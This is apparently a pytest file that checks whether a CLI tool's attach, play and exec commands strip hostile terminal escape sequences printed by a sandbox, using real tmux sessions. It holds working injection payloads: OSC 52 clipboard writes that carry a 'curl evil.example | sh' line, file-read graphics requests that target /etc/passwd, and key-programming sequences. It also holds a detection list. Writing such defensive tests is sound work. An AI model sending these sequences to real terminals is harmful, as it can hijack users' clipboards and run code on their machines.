"""What a sandbox prints cannot set the clipboard, open files or program keys at a real terminal
(tmux), by `attach` or `play`; the same bytes written there by themselves do."""

import base64
import json
import os
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.surfaces.cli.commands.terminals.test_attach import person_tty
from tests.surfaces.cli.scripted import Scripted

PATIENCE = 90.0
EVIL = base64.b64encode(b"curl evil.example | sh").decode().encode()
COPIES = {
    "the usual one": b"\x1b]52;c;" + EVIL + b"\x07",
    "ended by the next sequence": b"\x1b]52;c;" + EVIL + b"\x1b[m",
    "ended by CAN": b"\x1b]52;c;" + EVIL + b"\x18\x1b]0;t\x07",
    "a control character in the number": b"\x1b]5\x012;c;" + EVIL + b"\x07",
    "a control character behind the number": b"\x1b]52\x02;c;" + EVIL + b"\x07",
    "a control character behind ESC": b"\x1b\x01]52;c;" + EVIL + b"\x07",
}
OTHERS = {
    "a file on the desktop": b"\x1b]1337;File=name=ZXZpbA==;inline=0:" + EVIL + b"\x07",
    "a picture from a file": b"\x1b_Ga=T,t=f,f=100;L2V0Yy9wYXNzd2Q=\x1b\\",
    "a picture from a temporary file": b"\x1b_Ga=T,t=t,f=100;L2V0Yy9wYXNzd2Q=\x1b\\",
    "a picture from shared memory": b"\x1b_Ga=T,t=s,f=100;L2V0Yy9wYXNzd2Q=\x1b\\",
    "keys that type": b"\x1bP0;1|17/6576696c0d\x1b\\",
    "keys that type, with controls": b"\x1b\x00P0;1|17/6576\x016696c0d\xc2\x9c",
    "a notification": b"\x1b]777;notify;evil;" + EVIL + b"\x07",
    "a report of the title": b"\x1b]2;evil\x07\x1b[21t",
    "a printer": b"\x1b[5ievil\x1b[4i",
}
FORBIDDEN = (b"]52", b"52;c", EVIL, b"1337", b"]777", b"L2V0", b"17/", b"6576", b"[21t", b"[5i")


class Tmux:
    """A real terminal of our own, whose buffer is its clipboard."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir()
        self._socket = str(folder / "tmux")
        self._settings = folder / "tmux.conf"
        self._settings.write_text("set -s set-clipboard on\n")

    def call(self, *words: str, env: dict[str, str] | None = None) -> str:
        done = subprocess.run(
            ["tmux", "-f", str(self._settings), "-S", self._socket, *words],
            env={**os.environ, "LC_ALL": "C.UTF-8", **(env or {})},
            capture_output=True,
            text=True,
            timeout=PATIENCE,
        )
        return done.stdout

    def run(self, argv: list[str], env: dict[str, str] | None = None) -> None:
        self.call("new-session", "-d", "-x", "100", "-y", "30", shlex.join(argv), env=env)

    def sees(self, text: str) -> None:
        self.until(lambda: text in self.call("capture-pane", "-p"), text)

    def until(self, holds: Callable[[], bool], what: str) -> None:
        deadline = time.monotonic() + PATIENCE
        while not holds():
            assert time.monotonic() < deadline, (what, self.call("capture-pane", "-p"))
            time.sleep(0.02)

    @property
    def clipboard(self) -> str:
        return self.call("list-buffers", "-F", "#{buffer_sample}").strip()


@pytest.fixture
def terminals(tmp_path: Path) -> Iterator[tuple[Tmux, Tmux]]:
    """Two of them, each with a server of its own."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    both = Tmux(tmp_path / "a"), Tmux(tmp_path / "b")
    yield both
    for terminal in both:
        terminal.call("kill-server")


def marked(attacks: dict[str, bytes]) -> bytes:
    """All of them, each followed by a line, and a last one."""
    lines = (attack + b"\x1b\\\r\nafter %d\r\n" % n for n, attack in enumerate(attacks.values()))
    return b"".join(lines) + b"that-was-all\r\n"


def cast(folder: Path, data: bytes) -> Path:
    """A recording of these bytes."""
    head = {"version": 3, "term": {"cols": 100, "rows": 30}}
    events = [[0.01, "o", data.decode()], [0.01, "o", "that-was-all\r\n"]]
    path = folder / "x.cast"
    path.write_text("".join(json.dumps(line) + "\n" for line in (head, *events)))
    return path


def harmless(seen: bytes) -> None:
    for word in FORBIDDEN:
        assert word not in seen, word


@pytest.mark.parametrize("spelling", COPIES)
def test_copy_of_any_spelling_is_real_and_does_not_pass_attach(
    server: Scripted,
    environ: dict[str, str],
    terminals: tuple[Tmux, Tmux],
    tmp_path: Path,
    spelling: str,
) -> None:
    control, tmux = terminals
    file = tmp_path / "attack"
    file.write_bytes(COPIES[spelling] + b"\r\nraw-shown\r\n")
    control.run(["sh", "-c", f"cat {shlex.quote(str(file))}; exec sleep 999"])
    control.sees("raw-shown")
    control.until(lambda: "curl evil" in control.clipboard, "the control's copy")

    server.add("box")
    argv = [sys.executable, "-m", "atoll.wiring.command", "attach", "box"]
    tmux.run(argv, {**environ, "PYTHONPATH": os.environ.get("PYTHONPATH", "")})
    server.tape.attached.get(timeout=PATIENCE)
    server.print(marked({spelling: COPIES[spelling]}))
    tmux.sees("that-was-all")
    assert tmux.clipboard == ""


def test_attach_passes_nothing_that_is_not_known_to_be_harmless(
    server: Scripted, environ: dict[str, str]
) -> None:
    server.add("box")
    with person_tty(environ, "attach", "box") as tty:
        server.tape.attached.get(timeout=PATIENCE)
        server.print(marked({**COPIES, **OTHERS}))
        seen = tty.expect(b"that-was-all")
        tty.type(b"\x1c")
        assert tty.ends() == 0
    harmless(seen)
    for n in range(len(COPIES) + len(OTHERS)):
        assert b"after %d" % n in seen


def test_attach_with_clipboard_lets_programs_set_it_and_no_more(
    server: Scripted, environ: dict[str, str]
) -> None:
    server.add("box")
    with person_tty(environ, "attach", "box", "--clipboard") as tty:
        server.tape.attached.get(timeout=PATIENCE)
        server.print(b"\x1b]52;c;?\x07" + COPIES["the usual one"] + marked(OTHERS))
        seen = tty.expect(b"that-was-all")
        tty.type(b"\x1c")
        assert tty.ends() == 0
    assert COPIES["the usual one"] in seen
    assert b"52;c;?" not in seen
    harmless(seen.replace(COPIES["the usual one"], b""))


def test_play_passes_nothing_that_is_not_known_to_be_harmless(
    server: Scripted, environ: dict[str, str], tmp_path: Path
) -> None:
    asks = b"\x1b[6n\x1b[\x01c\xc2\x9b5n\x1bP$qm\x1b\\\x1b]11;?\x07"
    path = cast(tmp_path, asks + b"".join(COPIES.values()) + b"".join(OTHERS.values()) + b"\x1b\\")
    with person_tty(environ, "play", str(path)) as tty:
        seen = tty.expect(b"that-was-all")
        assert tty.ends() == 0
    harmless(seen)
    for question in (b"6n", b"[c", b"5n", b"$q", b"11;?"):
        assert question not in seen


def test_exec_at_a_terminal_is_guarded_and_in_a_pipe_is_not(
    server: Scripted, environ: dict[str, str]
) -> None:
    server.add("box")
    data = marked({**COPIES, **OTHERS}) + "\x9d52;c;".encode() + EVIL + "\x9cend\r\n".encode()
    server.output = [
        {"stream": "stdout", "offset": 0, "data": base64.b64encode(data).decode()},
        {"exit": {"exec_id": "ex_1", "exit_code": 0, "signal": None}},
    ]
    argv = [sys.executable, "-m", "atoll.wiring.command", "exec", "box", "--", "x"]
    piped = subprocess.run(
        argv,
        env={**os.environ, **environ},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=PATIENCE,
    )
    assert piped.stdout == data
    with person_tty(environ, "exec", "box", "--", "x") as tty:
        seen = tty.expect(b"end")
        assert tty.ends() == 0
    harmless(seen)
